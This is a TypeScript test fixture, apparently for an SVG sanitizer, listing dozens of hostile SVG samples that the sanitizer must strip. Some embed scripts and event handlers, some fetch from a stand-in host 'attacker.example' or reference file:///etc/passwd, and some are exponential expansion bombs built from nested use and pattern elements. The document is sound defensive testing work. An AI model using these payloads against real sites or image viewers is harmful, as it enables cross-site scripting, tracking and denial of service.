const NAMESPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';

/** A document with this inside, beside something to draw. */
export const svg = (inside: string, attributes = 'width="10" height="10"'): Buffer =>
  Buffer.from(`<svg ${NAMESPACES} ${attributes}><rect width="1" height="1"/>${inside}</svg>`);

/** Where every attack tries to fetch from or send to. */
export const ATTACKER = 'https://attacker.example';

/**
 * Ways to run, fetch or smuggle something through an SVG, each with a drawing beside it. None of them may leave a
 * script, a handler, foreign content or the attacker's address behind.
 */
export const SVG_ATTACKS: Readonly<Record<string, Buffer>> = {
  'a script': svg('<script>alert(1)</script>'),
  'a script by reference': svg(`<script href="${ATTACKER}/x.js"/><script xlink:href="${ATTACKER}/x.js"/>`),
  'a script in CDATA': svg('<script><![CDATA[alert(1)]]></script>'),
  'a script inside a script': svg('<scr<script></script>ipt>alert(1)</scr</script>ipt>'),
  'a script in another case': svg('<SCRIPT>alert(1)</SCRIPT><Script>alert(1)</Script>'),
  'a script with a prefix': svg('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>'),
  'an HTML script': svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
  'a handler on the root': svg('', 'onload="alert(1)" width="10" height="10"'),
  'handlers everywhere': svg(
    '<g onclick="alert(1)" ONMOUSEOVER="alert(1)" onfocusin = "alert(1)"><path d="M0 0" onbegin="alert(1)"/></g>',
  ),
  'a handler without quotes': svg('<g onclick=alert(1) />'),
  'a handler behind a slash': svg('<g/onload=alert(1)>'),
  'foreign content': svg(
    `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="${ATTACKER}"/><img src="x" onerror="alert(1)"/></body></foreignObject>`,
  ),
  'foreign content in another case': svg(
    '<foreignobject><iframe src="javascript:alert(1)"/></foreignobject>',
  ),
  'a frame': svg(`<iframe src="${ATTACKER}"/><embed src="${ATTACKER}"/><object data="${ATTACKER}"/>`),
  media: svg(`<audio src="${ATTACKER}" autoplay=""/><video src="${ATTACKER}"/>`),
  'a link that runs': svg(
    '<a href="javascript:alert(1)"><text>click</text></a><a xlink:href="java&#x0A;script:alert(1)"><text>x</text></a>',
  ),
  'a picture from elsewhere': svg(
    `<image href="${ATTACKER}/pixel.png"/><image xlink:href="//attacker.example/pixel.png"/><feImage href="${ATTACKER}/x"/>`,
  ),
  'a picture from a file': svg('<image href="file:///etc/passwd"/><image href="../../secret.png"/>'),
  'an SVG as a picture': svg(
    '<image href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"/><image href="data:image/svg+xml,&lt;svg onload=&quot;alert(1)&quot;/&gt;"/>',
  ),
  'a page as a picture': svg('<image href="data:text/html;base64,PHNjcmlwdD4="/>'),
  'a picture with a type in disguise': svg(
    '<image href=" data:image/png,x" /><image href="data:image/png;base64,AAAA#x" /><image href="DATA:text/html;base64,AAAA"/>',
  ),
  'a use from elsewhere': svg(
    `<use href="${ATTACKER}/x.svg#a"/><use xlink:href="data:image/svg+xml;base64,PHN2Zz4=#a"/><use href="x.svg#a"/>`,
  ),
  'paint from elsewhere': svg(
    `<rect fill="url(${ATTACKER}/x#a)" stroke="url('${ATTACKER}/x#a')" mask="url(x.svg#m)" filter="url(&quot;${ATTACKER}&quot;)"/>`,
  ),
  'escaped paint from elsewhere': svg(`<rect fill="\\75rl(${ATTACKER}/x#a)"/>`),
  'a style from elsewhere': svg(
    `<rect style="fill:url(${ATTACKER}/x);background:image-set('${ATTACKER}/y' 1x)"/>`,
  ),
  'an imported style sheet': svg(
    `<style>@import url("${ATTACKER}/x.css");</style><style>@import '${ATTACKER}/x.css';</style>`,
  ),
  'a style sheet that fetches': svg(
    `<style>rect{fill:url(${ATTACKER}/x)}@font-face{font-family:f;src:url(${ATTACKER}/f.woff)}</style>`,
  ),
  'a style sheet that fetches behind a comment': svg(`<style>rect{fill:ur<!-- -->l(${ATTACKER}/x)}</style>`),
  'a style sheet that ends itself': svg(
    '<style><![CDATA[</style><script>alert(1)</script><style>]]></style>',
  ),
  'a style sheet with escaped markup': svg(
    '<style>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>',
  ),
  'a linked style sheet': svg(
    `<link rel="stylesheet" href="${ATTACKER}/x.css"/><h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${ATTACKER}/x.css"/>`,
  ),
  'a style sheet instruction': Buffer.concat([
    Buffer.from(`<?xml version="1.0"?><?xml-stylesheet href="${ATTACKER}/x.css"?>`),
    svg('<?php echo 1 ?>'),
  ]),
  'a reference set later': svg(
    `<use id="u" href="#x"><set attributeName="href" to="${ATTACKER}/x.svg#a"/></use>`,
  ),
  'a reference animated later': svg(
    `<use href="#x"><animate attributeName="xlink:href" values="#x;${ATTACKER}/x.svg#a" dur="1s"/><animate attributeName=" href " to="${ATTACKER}"/></use>`,
  ),
  'a handler set later': svg(
    '<g><set attributeName="onclick" to="alert(1)"/><animate attributeName="onload" values="alert(1)"/></g>',
  ),
  'a style set later': svg(
    `<g><set attributeName="style" to="fill:url(${ATTACKER})"/><animate attributeName="fill" to="url(${ATTACKER})"/></g>`,
  ),
  'a base address': svg(
    '<g xml:base="https://attacker.example/"><use href="#x"/></g>',
    'xml:base="https://attacker.example/" width="10" height="10"',
  ),
  'a namespace in disguise': svg(
    '<g xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></g>',
    'xmlns:xlink="javascript:alert(1)" width="10" height="10"',
  ),
  'a handler element': svg(
    '<handler type="application/ecmascript" ev:event="load">alert(1)</handler><listener event="load" handler="#h"/>',
  ),
  'markup in text': svg(
    '<text><![CDATA[<script>alert(1)</script>]]> &lt;img src=x onerror=alert(1)&gt;</text>',
  ),
  'markup in an attribute': svg(
    '<text aria-label="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</text>',
  ),
  'markup in an id': svg('<g id="&quot; onload=&quot;alert(1)"/>'),
  'a comment that ends early': svg('<!--><script>alert(1)</script>--><!-- --!><script>alert(1)</script> -->'),
  metadata: svg(`<metadata><x:a xmlns:x="${ATTACKER}">${ATTACKER}</x:a></metadata>`),
};

/** An SVG in which `levels` of `use` double what they draw each time: 2^levels rectangles from a few lines. */
export const laughingSvg = (levels: number): Buffer => {
  const level = (n: number) => `<g id="l${n}"><use href="#l${n - 1}"/><use xlink:href="#l${n - 1}"/></g>`;
  return svg(
    `<g id="l0"><rect width="1" height="1"/></g>${Array.from({ length: levels }, (_, n) => level(n + 1)).join('')}`,
  );
};

/** The same by patterns that are filled with patterns. */
export const laughingPatterns = (levels: number): Buffer => {
  const level = (n: number) =>
    `<pattern id="p${n}" width="1" height="1"><rect fill="url(#p${n - 1})"/><rect style="fill:url(#p${n - 1})"/></pattern>`;
  return svg(
    `<defs><pattern id="p0"><path d="M0 0"/></pattern>${Array.from({ length: levels }, (_, n) => level(n + 1)).join('')}</defs><rect fill="url(#p${levels})"/>`,
  );
};
